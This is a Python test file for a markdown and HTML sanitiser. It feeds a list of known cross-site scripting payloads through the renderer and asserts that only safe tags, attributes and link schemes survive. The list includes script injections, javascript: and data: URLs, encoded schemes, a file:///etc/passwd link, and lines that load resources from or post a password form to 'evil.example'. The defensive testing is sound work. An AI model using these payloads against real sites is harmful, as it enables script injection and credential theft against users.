"""Markdown: what people write looks as they mean it; what attackers write is text."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from baton.pipelines.conversation import MAX_BODY
from baton.pipelines.markdown import SCHEMES, TAGS, clean, excerpt, from_html, render

#: Attacks as collections of them have them: scripts, handlers, schemes, entities, broken markup, styles, forms, namespaces.
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0d>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href='/api/v1/session/sign-out'>x</a>",
    "<a href=\\\\evil.example>x</a>",
    "<a href='https://ok.example' onclick=alert(1) style=position:fixed>x</a>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p id=x name=location>clobber</p>",
    "<table background=javascript:alert(1)><td>x",
    "</p></div></body></html><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/v1/tickets)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://ok.example "\\" onmouseover=alert(1) x=")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.gif)",
    '![" onerror="alert(1)](https://ok.example/x.png)',
    "![<script>alert(1)</script>](https://ok.example/x.png)",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onmouseover=\"alert(1)\nx\n```",
    "| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |",
    "https://ok.example/<script>alert(1)</script>",
    "javascript:alert(1)",
    "\u202ehttps://ok.example\u202c",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
]  # fmt: skip


class _Reader(HTMLParser):
    """What a browser would find in HTML: tags, attributes, comments and declarations."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.odd: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_decl(self, decl: str) -> None:
        self.odd.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)

    def handle_pi(self, data: str) -> None:
        self.odd.append(data)


def assert_harmless(html: str) -> None:
    """Fail unless a browser would find nothing but text, the allowed tags, and links of the allowed schemes."""
    found = _Reader(html)
    assert found.odd == []
    for tag, attributes in found.tags:
        assert tag in TAGS
        assert set(attributes) <= {"href", "title", "rel", "start", "class", "align"}
        if tag == "a" and "href" in attributes:
            assert (attributes["href"] or "").partition(":")[0].lower() in SCHEMES
            assert attributes["rel"] == "noopener noreferrer nofollow"
        assert tag == "code" or "class" not in attributes


@pytest.mark.parametrize("attack", HOSTILE)
def test_hostile_markdown_is_text(attack: str) -> None:
    for source in (attack, f"# {attack}", f"> {attack}", f"- {attack}", f"**{attack}**", f"text\n{attack}\ntext"):
        assert_harmless(render(source))


@pytest.mark.parametrize("attack", HOSTILE)
def test_hostile_html_is_harmless_however_it_goes_in(attack: str) -> None:
    for html in (attack, f"<p>{attack}</p>", f"<ul><li>{attack}", f"<pre>{attack}</pre>", f'<a href="https://a.b">{attack}</a>'):
        assert_harmless(render(from_html(html)))
        assert_harmless(clean(html))


@given(
    st.lists(st.sampled_from([*HOSTILE, "`", "```\n", "[", "](", ")", "<", ">", "*", "_", "\n", "|", "&", '"', "a"]), max_size=12)
)
def test_no_mixture_of_attacks_gets_through(pieces: list[str]) -> None:
    source = "".join(pieces)
    assert_harmless(render(source))
    assert_harmless(render(from_html(source)))


@given(st.text(max_size=300))
def test_any_text_is_rendered_into_harmless_html(text: str) -> None:
    assert_harmless(render(text))
    assert_harmless(render(from_html(text)))
    assert len(excerpt(text, 50)) <= 50


def test_no_picture_is_loaded_from_anywhere() -> None:
    html = render("![chart](https://tracker.example/p.gif?reader=7)")
    assert "<img" not in html and 'href="https://tracker.example/p.gif?reader=7"' in html and ">chart</a>" in html
    assert "<img" not in render(from_html('<img src="https://tracker.example/p.gif" alt="chart">'))


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("**bold** *it* ~~gone~~ `x < y`",
         "<p><strong>bold</strong> <em>it</em> <s>gone</s> <code>x &lt; y</code></p>\n"),
        ("line one\nline two", "<p>line one<br>\nline two</p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>\n'),
        ("```python\nx = 1\n```", '<pre><code class="language-python">x = 1\n</code></pre>\n'),
        ("https://a.example/x?y=1&z=2.",
         '<p><a href="https://a.example/x?y=1&amp;z=2" rel="noopener noreferrer nofollow">https://a.example/x?y=1&amp;z=2</a>.</p>\n'),
        ("see README.md and 10.0.0.1", "<p>see README.md and 10.0.0.1</p>\n"),
        ("2 < 3 & 4 > 1", "<p>2 &lt; 3 &amp; 4 &gt; 1</p>\n"),
    ],
)  # fmt: skip
def test_what_people_write_looks_as_they_mean_it(source: str, html: str) -> None:
    assert render(source) == html


def test_foreign_html_keeps_its_text_links_lists_and_code() -> None:
    html = (
        '<p>Go to <a href="https://a.example/b" rel="x">the page</a>&nbsp;&gt; <strong>Save</strong>.</p>'
        "<ul><li>one</li><li>two</li></ul><pre>a &lt; b\n  c</pre><blockquote>said</blockquote>"
    )
    assert from_html(html) == (
        "Go to [the page](https://a.example/b)\u00a0\\> **Save**.\n\n- one\n- two\n\n```\na < b\n  c\n```\n\n> said"
    )


def test_text_that_looks_like_markup_stays_text() -> None:
    for text in ("1. not a list", "# no heading", "*no emphasis*", "a_b_c", "[no](link)", "`no code`", "<b>", "> no quote"):
        html = from_html(f"<p>{text.replace('<', '&lt;')}</p>")
        assert excerpt(html) == text


def test_an_excerpt_is_one_line_of_plain_text() -> None:
    assert excerpt("# Hello\n\n**you** & <me>\n\n- [x](https://a.example)") == "Hello you & <me> x"
    assert excerpt("word " * 100, 20) == "word word word word…"
    assert excerpt("") == ""


@pytest.mark.parametrize(
    "piece", ["[", "*a ", ">", "`", "[a](b", "http://", "|", "a@", "- ", "*_", "![[", "&", "<", "<a ", "~~", "\\"]
)
def test_the_longest_comment_of_the_worst_kind_takes_no_time_worth_speaking_of(piece: str) -> None:
    source = (piece * MAX_BODY)[:MAX_BODY]
    began = time.thread_time()
    render(source)
    assert time.thread_time() - began < 3.0
